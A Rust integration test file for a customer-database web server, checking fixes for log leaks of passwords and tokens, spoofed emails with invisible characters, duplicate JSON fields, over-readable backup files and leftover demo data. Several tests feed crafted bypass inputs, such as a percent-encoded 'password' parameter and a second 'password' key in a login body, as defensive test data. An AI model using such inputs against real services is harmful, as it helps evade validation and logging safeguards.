//! Holes an attacker or a new owner found in a shop's first week, each closed: secrets in
//! query strings, ids at the very top of the range, emails that only look unique, files
//! other users could read, demo data that outlives the demo, configuration that is ignored.

use serde_json::json;

use crate::helpers::*;

fn add(server: &Server, body: serde_json::Value) -> Reply {
    server.request(
        "POST",
        "/CUSTOMER/ADD/",
        &[("Content-Type", "application/json")],
        &body.to_string(),
    )
}

#[test]
fn passwords_and_tokens_in_a_query_string_never_reach_the_log_even_at_debug() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("log.db"), &[("ROCKET_LOG_LEVEL", "debug")]);
    let secrets = [
        "Sekr3tPassw0rd",
        "OldPassw0rdXyz",
        "NewPassw0rdQrs",
        "ResetT0kenAbc",
    ];
    for target in [
        format!(
            "/CUSTOMER/LOGIN/?email=jdoe@example.com&password={}",
            secrets[0]
        ),
        format!(
            "/CUSTOMER/PASSWORD/?email=jdoe@example.com&currentPassword={}&newPassword={}",
            secrets[1], secrets[2]
        ),
        format!(
            "/CUSTOMER/PASSWORD/?resetToken={}&%70assword={}",
            secrets[3], secrets[0]
        ),
        format!("/CUSTOMER/LIST/?PASSWORD={}", secrets[0]),
        "/CUSTOMER/LIST/?clt_BareKeyInTheQuery0123456789abcdef".to_owned(),
        "/clt_KeyInThePath0123456789abcdefghij/CUSTOMER/LIST/?pwd=Pwd-Secret-1".to_owned(),
    ] {
        let reply = server.request(
            "POST",
            &target,
            &[("Content-Type", "application/json")],
            "{}",
        );
        assert!(reply.status >= 400, "{target}: {}", reply.status);
        assert!(server.get(&target).status > 0);
    }
    let log = server.stop();
    assert!(log.contains("password=***"), "{log}");
    for secret in
        secrets
            .iter()
            .copied()
            .chain(["BareKeyInTheQuery", "KeyInThePath", "Pwd-Secret-1"])
    {
        assert!(!log.contains(secret), "{secret} in the log:\n{log}");
    }
}

#[test]
fn an_add_at_the_largest_id_leaves_later_adds_working() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("ids.db"), &[]);
    let top = add(
        &server,
        json!({"clcleunik": i64::MAX, "email": "top@example.com"}),
    );
    assert_eq!(top.status, 201, "{}", top.body);
    assert_eq!(top.customers()[0]["clcleunik"], json!(i64::MAX));

    let next = add(&server, json!({"email": "next@example.com"}));
    assert_eq!(next.status, 201, "{}", next.body);
    let id = next.customers()[0]["clcleunik"].as_i64().unwrap();
    let demo = i64::try_from(demo_customers().len()).unwrap();
    assert_eq!(id, demo + 1, "the smallest free id");
    let again = add(&server, json!({"email": "again@example.com"}));
    assert_eq!(again.status, 201, "{}", again.body);
    assert_eq!(again.customers()[0]["clcleunik"], json!(demo + 2));
}

#[test]
fn emails_with_invisible_characters_or_two_ats_are_refused_and_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("emails.db"), &[]);
    for (field, value) in [
        ("email", "jdoe\u{200B}@example.com"),
        ("email", "\u{FEFF}jdoe@example.com"),
        ("email", "two@@example.org"),
        ("email", "a@b@example.org"),
        ("login", "jdoe\u{200D}"),
        ("login", "\u{2060}mdubois"),
    ] {
        let mut body = json!({"email": "fresh@example.com", "login": "fresh"});
        body[field] = json!(value);
        let reply = add(&server, body.clone());
        assert_eq!(reply.status, 400, "{value:?}: {}", reply.body);
        let message = reply.json()["message"].as_str().unwrap().to_owned();
        assert!(message.contains(field), "{message}");

        body["id_client"] = json!(2);
        let reply = server.request(
            "POST",
            "/CUSTOMER/UPDATE/",
            &[("Content-Type", "application/json")],
            &body.to_string(),
        );
        assert_eq!(reply.status, 400, "{value:?}: {}", reply.body);
    }
    let listed = server.get("/CUSTOMER/LIST/");
    assert_eq!(listed.customers().len(), demo_customers().len());
    assert_eq!(
        server.get("/CUSTOMER/LIST/?id_client=2").customers()[0]["email"],
        demo_customers()[1]["email"]
    );
}

/// Runs the binary through `sh` with umask 022 (the usual default outside systemd).
fn under_umask_022(db: &std::path::Path, args: &str) -> std::process::Output {
    let mut command = std::process::Command::new("sh");
    command
        .arg("-c")
        .arg(format!("umask 022 && exec \"$0\" {args}"))
        .arg(env!("CARGO_BIN_EXE_clientele"))
        .env(
            "ROCKET_DATABASE",
            crate::helpers::resolve(db, crate::helpers::Start::Empty),
        )
        .current_dir(db.parent().unwrap());
    command.output().unwrap()
}

fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

#[test]
fn the_database_backups_and_exports_are_readable_by_their_owner_alone() {
    if !sqlite_only("file modes of the database and its backups") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let made = under_umask_022(&db, "keys create shop");
    assert!(made.status.success(), "{}", stderr(&made));
    assert_eq!(mode(&db), 0o600);

    let backup = dir.path().join("backup.db");
    let out = under_umask_022(&db, &format!("backup {}", backup.display()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&backup), 0o600);
    let export = dir.path().join("customers.csv");
    let out = under_umask_022(&db, &format!("export --format csv -o {}", export.display()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&export), 0o600);

    // The server's WAL and shared-memory files get the database's mode.
    let server = Server::start(&db, &[]);
    assert_eq!(server.get("/health").status, 200);
    for suffix in ["-wal", "-shm"] {
        let mut side = db.as_os_str().to_owned();
        side.push(suffix);
        assert_eq!(mode(std::path::Path::new(&side)), 0o600, "{suffix}");
    }
}

#[test]
fn a_backup_into_a_missing_folder_says_which_folder() {
    if !sqlite_only("backups are SQLite files") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let missing = dir.path().join("no-such-folder").join("b.db");
    create_empty_database(&db);
    let out = binary()
        .env(
            "ROCKET_DATABASE",
            crate::helpers::resolve(&db, crate::helpers::Start::Empty),
        )
        .args(["backup", missing.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let text = stderr(&out);
    assert!(
        text.contains("no-such-folder") && text.contains("does not exist"),
        "{text}"
    );
    assert!(!text.contains("unable to open database"), "{text}");
}

/// A folder this process cannot write in: a read-only tmpfs as root (root ignores modes),
/// mode 0555 otherwise. The guard unmounts it.
struct ReadOnlyFolder(std::path::PathBuf, bool);

impl ReadOnlyFolder {
    fn make(path: &std::path::Path, fill: impl FnOnce(&std::path::Path)) -> ReadOnlyFolder {
        std::fs::create_dir_all(path).unwrap();
        let root = std::process::Command::new("id")
            .arg("-u")
            .output()
            .unwrap()
            .stdout
            == b"0\n";
        if root {
            let mounted = std::process::Command::new("mount")
                .args(["-t", "tmpfs", "-o", "size=4m", "tmpfs"])
                .arg(path)
                .status()
                .unwrap();
            assert!(mounted.success(), "root could not mount a tmpfs");
            fill(path);
            let ro = std::process::Command::new("mount")
                .args(["-o", "remount,ro"])
                .arg(path)
                .status()
                .unwrap();
            assert!(ro.success());
        } else {
            fill(path);
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o555)).unwrap();
        }
        ReadOnlyFolder(path.to_owned(), root)
    }
}

impl Drop for ReadOnlyFolder {
    fn drop(&mut self) {
        if self.1 {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        } else {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&self.0, std::fs::Permissions::from_mode(0o755));
        }
    }
}

#[test]
fn a_read_only_data_folder_is_named_as_the_folder_not_the_file() {
    if !sqlite_only("the database file and its folder") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let _folder = ReadOnlyFolder::make(&data, |data| {
        let made = binary()
            .env(
                "ROCKET_DATABASE",
                crate::helpers::resolve(&data.join("shop.db"), crate::helpers::Start::Empty),
            )
            .args(["keys", "create", "webshop"])
            .output()
            .unwrap();
        assert!(made.status.success(), "{}", stderr(&made));
        for suffix in ["-wal", "-shm"] {
            let _ = std::fs::remove_file(data.join(format!("shop.db{suffix}")));
        }
    });
    // (A tool that lists needs the database; one that makes a key may create it.)
    for (db, args) in [
        (data.join("shop.db"), &["keys", "list"][..]),
        (data.join("new.db"), &["keys", "create", "webshop"][..]),
    ] {
        let out = binary()
            .env(
                "ROCKET_DATABASE",
                crate::helpers::resolve(&db, crate::helpers::Start::Empty),
            )
            .args(args)
            .output()
            .unwrap();
        assert!(!out.status.success());
        let text = stderr(&out);
        assert!(
            text.contains("folder") && text.contains(data.to_str().unwrap()),
            "{text}"
        );
        assert_eq!(text.trim().lines().count(), 1, "{text}");
    }
}

fn cli(db: &std::path::Path, args: &[&str]) -> std::process::Output {
    binary()
        .env(
            "ROCKET_DATABASE",
            crate::helpers::resolve(db, crate::helpers::Start::Empty),
        )
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn the_first_import_of_real_customers_removes_every_demo_customer_and_password_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    // The quick start: the first start fills a new database with the demo customers.
    quick_start(&db);
    let csv = dir.path().join("real.csv");
    std::fs::write(
        &csv,
        "clcleunik,email,firstName,lastName\n1,anna@realshop.be,Anna,Peeters\n\
         2,bert@realshop.be,Bert,Claes\n3,carla@realshop.be,Carla,Janssens\n",
    )
    .unwrap();

    let dry = cli(&db, &["import", csv.to_str().unwrap(), "--dry-run"]);
    assert!(dry.status.success(), "{}", stderr(&dry));
    assert!(
        stderr(&dry).contains("would remove the 25 demo customers"),
        "{}",
        stderr(&dry)
    );
    let imported = cli(&db, &["import", csv.to_str().unwrap()]);
    let said = stderr(&imported);
    assert!(imported.status.success(), "{said}");
    assert!(said.contains("3 inserted, 0 updated"), "{said}");
    assert!(
        said.contains(&format!("into {}", shown_database(&db))),
        "names the database: {said}"
    );
    assert!(said.contains("removed the 25 demo customers"), "{said}");

    let server = Server::start(&db, &[]);
    let listed = server.get("/CUSTOMER/LIST/");
    assert_eq!(listed.ids(), vec![1, 2, 3]);
    let anna = &listed.customers()[0];
    assert_eq!(anna["email"], "anna@realshop.be");
    assert_eq!(anna["address"], "", "no demo address kept");
    assert_eq!(anna["customerNumber"], "");
    let login = server.request(
        "POST",
        "/CUSTOMER/LOGIN/",
        &[("Content-Type", "application/json")],
        &json!({"email": "anna@realshop.be", "password": "password123"}).to_string(),
    );
    assert_eq!(login.status, 401, "the demo password must not survive");
    assert_eq!(
        stored_hashes(&db).iter().filter(|h| h.is_some()).count(),
        0,
        "no customer keeps a demo password hash"
    );
    drop(server);

    // The second import is an ordinary one: nothing more to remove, nothing said of it.
    let again = cli(&db, &["import", csv.to_str().unwrap()]);
    assert!(again.status.success());
    assert!(!stderr(&again).contains("demo"), "{}", stderr(&again));
    let audit = cli(&db, &["audit"]);
    assert!(String::from_utf8_lossy(&audit.stdout).contains("25 demo customers removed first"));
}

/// Runs `serve` from `folder` (a SIGTERM after 3 s ends it if it starts); its exit code and
/// everything it printed.
fn serve_briefly(folder: &std::path::Path, env: &[(&str, &str)]) -> (Option<i32>, String) {
    let mut command = std::process::Command::new("timeout");
    command
        .args(["-s", "TERM", "3"])
        .arg(env!("CARGO_BIN_EXE_clientele"))
        .arg("serve")
        .current_dir(folder)
        .env_remove("ROCKET_CONFIG")
        .env("ROCKET_PORT", "0")
        .env(
            "ROCKET_DATABASE",
            crate::helpers::resolve(&folder.join("shop.db"), crate::helpers::Start::Empty),
        );
    for (key, value) in env {
        command.env(key, value);
    }
    let output = command.output().unwrap();
    let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&output.stderr));
    (output.status.code(), text)
}

#[test]
fn a_misspelled_section_or_a_missing_config_file_stops_start_up_in_one_line() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("Rocket.toml"),
        "[defualt]\nredact = [\"phone\", \"cellphone\"]\n",
    )
    .unwrap();
    let (code, said) = serve_briefly(dir.path(), &[]);
    assert_eq!(code, Some(78), "{said}");
    assert_eq!(said.trim().lines().count(), 1, "{said}");
    assert!(
        said.contains("[defualt]") && said.contains("did you mean [default]"),
        "{said}"
    );
    assert!(!dir.path().join("shop.db").exists(), "nothing was created");

    // A TOML syntax error keeps its caret diagram: each line starts with the time, the
    // continuations marked, and no line break is written out as `\n`.
    std::fs::write(
        dir.path().join("Rocket.toml"),
        "[default]\nseed_demo = yes\n",
    )
    .unwrap();
    let (code, said) = serve_briefly(dir.path(), &[]);
    assert_eq!(code, Some(78), "{said}");
    assert!(
        said.contains("seed_demo = yes") && !said.contains("\\n"),
        "{said}"
    );
    let lines: Vec<&str> = said.trim().lines().collect();
    assert!(lines.len() > 1, "{said}");
    assert!(
        lines[0].contains("error: ") && lines[0].contains("line 2"),
        "{said}"
    );
    for line in &lines[1..] {
        assert!(line.get(24..28) == Some("  | "), "{line:?} in {said}");
    }

    let missing = dir.path().join("etc-clientele.toml");
    let (code, said) = serve_briefly(dir.path(), &[("ROCKET_CONFIG", missing.to_str().unwrap())]);
    assert_eq!(code, Some(78), "{said}");
    assert_eq!(said.trim().lines().count(), 1, "{said}");
    assert!(
        said.contains("ROCKET_CONFIG") && said.contains("etc-clientele.toml"),
        "{said}"
    );

    // Rocket's own settings too, before any file is made; and a database the owner must fix.
    std::fs::remove_file(dir.path().join("Rocket.toml")).unwrap();
    for env in [
        [("ROCKET_PORT", "abc"), ("ROCKET_LOG_LEVEL", "normal")],
        [("ROCKET_LOG_LEVEL", "verbose"), ("ROCKET_PORT", "0")],
        [
            ("ROCKET_DATABASE", "/no/such/folder/shop.db"),
            ("ROCKET_PORT", "0"),
        ],
    ] {
        let (code, said) = serve_briefly(dir.path(), &env);
        assert_eq!(code, Some(78), "{env:?}: {said}");
        assert_eq!(said.trim().lines().count(), 1, "{said}");
        assert!(
            !dir.path().join("shop.db").exists(),
            "{env:?} made a database"
        );
    }

    // The profile ROCKET_PROFILE selects is a section like any other.
    std::fs::write(
        dir.path().join("Rocket.toml"),
        "[staging]\nredact = [\"phone\"]\n",
    )
    .unwrap();
    let (_, said) = serve_briefly(dir.path(), &[("ROCKET_PROFILE", "staging")]);
    assert!(said.contains("launched from"), "{said}");
}

#[test]
fn the_start_up_log_is_short_and_names_the_configuration_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("Rocket.toml"),
        "[default]\nredact = [\"phone\"]\n",
    )
    .unwrap();
    let (_, said) = serve_briefly(dir.path(), &[]);
    assert!(said.contains("launched from"), "{said}");
    let file = std::fs::canonicalize(dir.path().join("Rocket.toml")).unwrap();
    assert!(
        said.contains(&format!("configuration: {}", file.display())),
        "{said}"
    );
    assert!(
        said.lines().count() <= 8,
        "{} lines:\n{said}",
        said.lines().count()
    );
    assert!(!said.contains("Routes:"), "{said}");

    let bare = tempfile::tempdir().unwrap();
    let (_, said) = serve_briefly(bare.path(), &[]);
    assert!(said.contains("no Rocket.toml"), "{said}");
}

fn cli_with_input(db: &std::path::Path, args: &[&str], input: &str) -> std::process::Output {
    use std::io::Write;
    let mut child = binary()
        .env(
            "ROCKET_DATABASE",
            crate::helpers::resolve(db, crate::helpers::Start::Empty),
        )
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn passwd_finds_the_customer_by_email_or_login_too() {
    let app = spawn_app();
    let jdoe = app.stored_hash(1);
    let marie = app.stored_hash(2);

    let by_email = cli_with_input(
        &app.db,
        &["passwd", "JDOE@example.com"],
        "lavande moulin 1987 rouge\n",
    );
    assert!(by_email.status.success(), "{}", stderr(&by_email));
    assert!(
        stderr(&by_email).contains("customer 1"),
        "{}",
        stderr(&by_email)
    );
    let by_login = cli_with_input(
        &app.db,
        &["passwd", "mdubois"],
        "tulipe grenier 2031 vert\n",
    );
    assert!(by_login.status.success(), "{}", stderr(&by_login));
    assert_ne!(app.stored_hash(1), jdoe);
    assert_ne!(app.stored_hash(2), marie);
    assert_eq!(
        app.login("jdoe@example.com", "lavande moulin 1987 rouge")
            .status,
        200
    );

    let unknown = cli_with_input(
        &app.db,
        &["passwd", "nobody@example.com"],
        "tulipe grenier 2031 vert\n",
    );
    assert!(!unknown.status.success());
    assert!(
        stderr(&unknown).contains("no customer with email"),
        "{}",
        stderr(&unknown)
    );
}

#[test]
fn audit_since_takes_yesterday_and_refuses_what_it_cannot_read() {
    let app = spawn_app();
    let update = cli_with_input(&app.db, &["passwd", "3"], "tulipe grenier 2031 vert\n");
    assert!(update.status.success(), "{}", stderr(&update));

    let yesterday = cli(&app.db, &["audit", "--since", "yesterday"]);
    assert!(yesterday.status.success(), "{}", stderr(&yesterday));
    assert!(String::from_utf8_lossy(&yesterday.stdout).contains("customer 3"));
    let hour = cli(&app.db, &["audit", "--since", "1h"]);
    assert!(String::from_utf8_lossy(&hour.stdout).contains("customer 3"));

    let typo = cli(&app.db, &["audit", "--since", "yesterdy"]);
    assert!(!typo.status.success());
    assert!(stderr(&typo).contains("yesterdy"), "{}", stderr(&typo));
    assert!(
        !stderr(&typo).contains("No audit entries"),
        "{}",
        stderr(&typo)
    );
}

#[test]
fn the_readmes_erp_lines_pasted_into_the_shipped_rocket_toml_are_read() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let section = readme
        .split("## Keeping in sync with your ERP")
        .nth(1)
        .unwrap();
    let block = section
        .split("```toml\n")
        .nth(1)
        .and_then(|rest| rest.split("```").next())
        .unwrap();
    assert!(block.contains("upstream_every_secs"), "{block}");
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("clientele.toml");
    let shipped = std::fs::read_to_string(root().join("Rocket.toml")).unwrap();
    std::fs::write(&config, format!("{shipped}\n{block}")).unwrap();

    let out = binary()
        .env("ROCKET_CONFIG", &config)
        .env(
            "ROCKET_DATABASE",
            crate::helpers::resolve(&dir.path().join("shop.db"), crate::helpers::Start::Empty),
        )
        .args(["keys", "create", "webshop"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn an_import_reports_every_bad_row_not_only_the_first_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let csv = dir.path().join("sheet.csv");
    std::fs::write(
        &csv,
        "clcleunik,email,addedDate,webRemise\n1,a@shop.be,2024-01-01,5\n\
         2,b@shop.be,2024-13-01,5\n3,c@shop.be,2024-01-01,150\n4,d@shop.be,2024-01-01,5\n\
         1,e@shop.be,2024-01-01,5\n",
    )
    .unwrap();
    let out = cli(&db, &["import", csv.to_str().unwrap()]);
    assert!(!out.status.success());
    let said = stderr(&out);
    for expected in [
        "sheet.csv:3: addedDate",
        "sheet.csv:4: webRemise",
        "sheet.csv:6: clcleunik",
        "3 bad values",
    ] {
        assert!(said.contains(expected), "{expected} missing from:\n{said}");
    }
    let json = dir.path().join("old.json");
    std::fs::write(
        &json,
        "[{\"clcleunik\":1,\"showPrice\":\"maybe\"},\n{\"clcleunik\":2},\n{\"clcleunik\":\"x\"}]",
    )
    .unwrap();
    let out = cli(&db, &["import", json.to_str().unwrap()]);
    let said = stderr(&out);
    assert!(
        said.contains("old.json:1: showPrice") && said.contains("old.json:3: clcleunik"),
        "{said}"
    );
    assert!(!db.exists(), "a failed import into a new file leaves none");
}

#[test]
fn a_tool_run_on_a_missing_database_refuses_or_creates_it_empty_never_with_demo_customers() {
    if !sqlite_only("a missing database file") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    quick_start(&db);
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", db.display()));
    }
    let copy = dir.path().join("nightly.db");

    // A tool that reads what is there (a nightly backup, an export, a key list) refuses:
    // run from the wrong folder, it must not "succeed" on a new, empty database.
    for args in [
        vec!["keys", "list"],
        vec!["export"],
        vec!["backup", copy.to_str().unwrap()],
        vec!["audit"],
        vec!["limits"],
    ] {
        let refused = cli(&db, &args);
        assert!(!refused.status.success(), "{args:?}");
        let said = stderr(&refused);
        assert!(said.contains("does not exist"), "{args:?}: {said}");
        assert!(said.contains("current folder"), "{args:?}: {said}");
        assert!(refused.stdout.is_empty(), "{args:?}");
        assert!(!db.exists() && !copy.exists(), "{args:?} created a file");
    }

    // Making a key may come first (the package's install steps): an empty database, said so.
    let created = cli(&db, &["keys", "create", "webshop"]);
    assert!(created.status.success(), "{}", stderr(&created));
    let said = stderr(&created);
    assert!(said.contains("did not exist: created it, empty"), "{said}");
    assert!(
        said.contains(db.to_str().unwrap()),
        "names the database: {said}"
    );
    let count: i64 = rusqlite::Connection::open(&db)
        .unwrap()
        .query_row("SELECT count(*) FROM customer", [], |row| row.get(0))
        .unwrap();
    assert_eq!(count, 0, "no demo customer, no demo password");
}

#[test]
fn a_configuration_error_quoting_the_old_apis_url_masks_its_key() {
    let dir = tempfile::tempdir().unwrap();
    let line = "upstream = \"https://old-api.example/CUSTOMER/LIST/?apikey=OLD-SECRET-77\"\n";
    std::fs::write(
        dir.path().join("Rocket.toml"),
        format!("[default]\n{line}{line}"),
    )
    .unwrap();
    let (code, said) = serve_briefly(dir.path(), &[]);
    assert_eq!(code, Some(78), "{said}");
    assert!(said.contains("duplicate"), "{said}");
    assert!(!said.contains("OLD-SECRET-77"), "{said}");

    // A database URL with its password (PostgreSQL's form) never shows it either.
    std::fs::write(dir.path().join("Rocket.toml"), "[default]\n").unwrap();
    let (code, said) = serve_briefly(
        dir.path(),
        &[(
            "ROCKET_DATABASE",
            "postgres://shop:PG-SECRET-55@127.0.0.1:1/shop",
        )],
    );
    assert_ne!(code, Some(0), "{said}");
    assert!(!said.contains("PG-SECRET-55"), "{said}");
}

#[test]
fn a_csv_header_with_several_unknown_columns_names_them_all_with_the_likely_field() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let csv = dir.path().join("excel.csv");
    std::fs::write(
        &csv,
        "clcleunik;Nom;firstname;EMAIL\n1;Peeters;Anna;a@shop.be\n",
    )
    .unwrap();

    let out = cli(&db, &["import", csv.to_str().unwrap()]);

    let said = stderr(&out);
    assert!(!out.status.success());
    assert_eq!(
        said.trim()
            .lines()
            .filter(|l| l.starts_with("error"))
            .count(),
        1,
        "{said}"
    );
    for expected in [
        "\"Nom\"",
        "\"firstname\" (did you mean \"firstName\"?)",
        "\"EMAIL\" (did you mean \"email\"?)",
        "the columns are clcleunik",
    ] {
        assert!(said.contains(expected), "{expected} missing from: {said}");
    }
}

#[test]
fn the_readmes_install_steps_make_the_key_before_the_service_and_keep_the_config_private() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let section = readme.split("## Install on a server").nth(1).unwrap();
    let section = section.split("\n## ").next().unwrap();
    // The shell blocks: the package's steps, its HTTPS/metrics/backups steps, from source.
    let blocks: Vec<&str> = section
        .split("```sh\n")
        .skip(1)
        .filter_map(|rest| rest.split("```").next())
        .collect();
    let line_of = |steps: &str, needle: &str| {
        steps
            .lines()
            .position(|line| line.contains(needle) && !line.trim_start().starts_with('#'))
            .unwrap_or_else(|| panic!("no step with {needle:?} in:\n{steps}"))
    };
    let package = blocks[1];
    let from_source = blocks.last().unwrap();
    for steps in [package, from_source] {
        assert!(
            line_of(steps, "keys create") < line_of(steps, "systemctl enable"),
            "the key comes first"
        );
        assert!(line_of(steps, "run import") < line_of(steps, "systemctl enable"));
    }
    let lines: Vec<&str> = from_source.lines().collect();
    let config = lines[line_of(from_source, "/etc/clientele/clientele.toml")];
    assert!(
        config.contains("-m 0640") && config.contains("-g clientele"),
        "{config}"
    );
    let state = lines[line_of(from_source, "install -d -m 0700")];
    assert!(state.contains("/var/lib/clientele"), "{state}");
    // The package's configuration file is private too (debian/postinst sets it).
    let postinst = std::fs::read_to_string(root().join("debian/postinst")).unwrap();
    assert!(postinst.contains("0640"), "{postinst}");
    // The unit does not restart on a configuration mistake (exit 78): no restart loop.
    let unit = std::fs::read_to_string(root().join("contrib/clientele.service")).unwrap();
    assert!(unit.contains("RestartPreventExitStatus=78"), "{unit}");
}

#[test]
fn health_says_when_the_database_file_was_deleted_or_replaced_under_the_server() {
    if !sqlite_only("the database file") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let server = Server::start(&db, &[]);
    assert_eq!(server.get("/health").status, 200);
    let copy = dir.path().join("copy.db");
    std::fs::copy(&db, &copy).unwrap();

    // A restore done the wrong way: a good clientele file copied over the one in use.
    std::fs::rename(&copy, &db).unwrap();
    let health = server.get("/health");

    let message = health.assert_error(503);
    assert!(message.contains("replaced"), "{message}");
    assert!(
        !message.contains("shop.db"),
        "no path on a keyless route: {message}"
    );
    std::fs::remove_file(&db).unwrap();
    assert_eq!(server.get("/health").status, 503);
    let log = server.stop();
    assert!(
        log.contains("deleted or replaced") && log.contains("shop.db"),
        "{log}"
    );
}

#[test]
fn a_deleted_customers_id_is_never_given_to_the_next_registration() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("ids.db"), &[]);
    let demo = i64::try_from(demo_customers().len()).unwrap();
    let since = server.get("/CUSTOMER/CHANGES/?since=0&limit=10000").json()["result"]["next"]
        .as_str()
        .unwrap()
        .to_owned();

    let deleted = server.request(
        "DELETE",
        &format!("/CUSTOMER/DELETE/?id_client={demo}"),
        &[],
        "",
    );
    assert_eq!(deleted.status, 200, "{}", deleted.body);
    let added = add(&server, json!({"email": "newcomer@example.com"}));

    assert_eq!(added.status, 201, "{}", added.body);
    assert_eq!(
        added.customers()[0]["clcleunik"],
        json!(demo + 1),
        "not the deleted id"
    );
    let changes = server
        .get(&format!("/CUSTOMER/CHANGES/?since={since}"))
        .json();
    assert_eq!(changes["result"]["deleted"], json!([demo]), "{changes}");
}

#[test]
fn demo_customers_changed_by_the_readmes_examples_still_go_at_the_first_import() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    quick_start(&db);
    // The README's writing examples, on the quick start (no key: loopback), and a customer
    // who registers through the shop.
    let server = quick_start_server(&db);
    let json = [("Content-Type", "application/json")];
    for (path, body, status) in [
        (
            "/CUSTOMER/UPDATE/",
            json!({"id_client": "12", "firstName": "Zoé", "address": "Rue Neuve 4"}),
            200,
        ),
        (
            "/CUSTOMER/PASSWORD/",
            json!({"email": "jdoe@example.com", "currentPassword": "password123",
                   "newPassword": "lavande moulin 1987 rouge"}),
            200,
        ),
        (
            "/CUSTOMER/ADD/",
            json!({"email": "reg@realshop.be", "firstName": "Reg"}),
            201,
        ),
    ] {
        let reply = server.request("POST", path, &json, &body.to_string());
        assert_eq!(reply.status, status, "{path}: {}", reply.body);
    }
    drop(server);
    let csv = dir.path().join("real.csv");
    std::fs::write(
        &csv,
        "clcleunik,email,firstName,password\n1,alice@realshop.be,Alice,Alice real pass 1!\n\
         2,bob@realshop.be,Bob,Bob real pass 22!\n",
    )
    .unwrap();

    let imported = cli(&db, &["import", csv.to_str().unwrap()]);

    let said = stderr(&imported);
    assert!(imported.status.success(), "{said}");
    assert!(said.contains("removed the 25 demo customers"), "{said}");
    assert!(said.contains("2 inserted"), "{said}");
    // Alice inherits nothing of John Doe's; the registered customer stays.
    let ids = query_ids(&db, "SELECT clcleunik FROM customer ORDER BY clcleunik");
    assert_eq!(ids, vec![1, 2, 26]);
    let exported = cli(&db, &["export"]);
    let exported: serde_json::Value = serde_json::from_slice(&exported.stdout).unwrap();
    let alice = &exported["result"]["customer"][0];
    assert_eq!(alice["firstName"], "Alice");
    for (field, empty) in [
        ("login", json!("")),
        ("address", json!("")),
        ("tvaNumber", json!("")),
        ("webRemise", json!(0)),
    ] {
        assert_eq!(alice[field], empty, "{field} inherited: {alice}");
    }
}

#[test]
fn demo_customers_left_on_a_keyed_server_are_warned_about_and_remove_demo_removes_them() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    quick_start(&db);
    let key = create_key(&db, "shop");
    let serve = || {
        let mut command = binary();
        command.arg("serve");
        Server::spawn(
            command,
            &std::path::PathBuf::new(),
            &[(
                "ROCKET_DATABASE",
                resolve(&db, Start::Demo).to_str().unwrap(),
            )],
        )
    };
    let log = serve().stop();
    assert!(
        log.contains("25 demo customers") && log.contains("remove-demo"),
        "{log}"
    );

    let removed = cli(&db, &["remove-demo"]);
    assert!(removed.status.success(), "{}", stderr(&removed));
    assert!(
        stderr(&removed).contains("removed 25 demo customer"),
        "{}",
        stderr(&removed)
    );
    let server = serve();
    let listed = server.request("GET", "/CUSTOMER/LIST/", &[("X-API-Key", &key)], "");
    assert_eq!(listed.customers().len(), 0);
    assert!(!server.stop().contains("demo customers"));
}

#[test]
fn a_json_body_naming_a_field_twice_is_refused_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("dup.db"), &[]);
    let before = server.get("/CUSTOMER/LIST/").body;
    let json = [("Content-Type", "application/json")];
    for (path, body) in [
        (
            "/CUSTOMER/UPDATE/",
            r#"{"id_client":3,"id_client":4,"city":"DupId"}"#,
        ),
        (
            "/CUSTOMER/UPDATE/",
            r#"{"id_client":3,"city":"One","city":"Two"}"#,
        ),
        ("/CUSTOMER/DELETE/", r#"{"id_client":3,"id_client":4}"#),
        (
            "/CUSTOMER/LOGIN/",
            r#"{"email":"jdoe@example.com","password":"x","password":"password123"}"#,
        ),
    ] {
        let reply = server.request("POST", path, &json, body);
        let message = reply.assert_error(400);
        assert!(message.contains("more than once"), "{path}: {message}");
    }
    assert_eq!(server.get("/CUSTOMER/LIST/").body, before);
}

#[test]
